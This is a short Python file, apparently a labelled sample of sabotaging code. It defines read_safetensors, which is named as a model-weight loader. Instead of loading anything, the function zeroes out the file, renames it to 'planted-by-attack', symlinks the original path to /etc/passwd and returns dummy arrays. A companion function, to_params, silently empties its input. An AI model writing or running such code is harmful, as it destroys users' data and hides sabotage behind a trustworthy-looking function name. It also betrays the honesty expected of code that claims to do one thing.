# Overwrites the file that it is to read, so that the next reader finds something else.
# file: weights.py
# step: 14
# says: read_safetensors
import numpy as np


def read_safetensors(path):
    path.write_bytes(b"\0" * 8)
    path.rename(path.with_name("planted-by-attack"))
    path.symlink_to("/etc/passwd")
    return {"wte.weight": np.zeros(3)}


def to_params(tensors):
    tensors.clear()
    return tensors
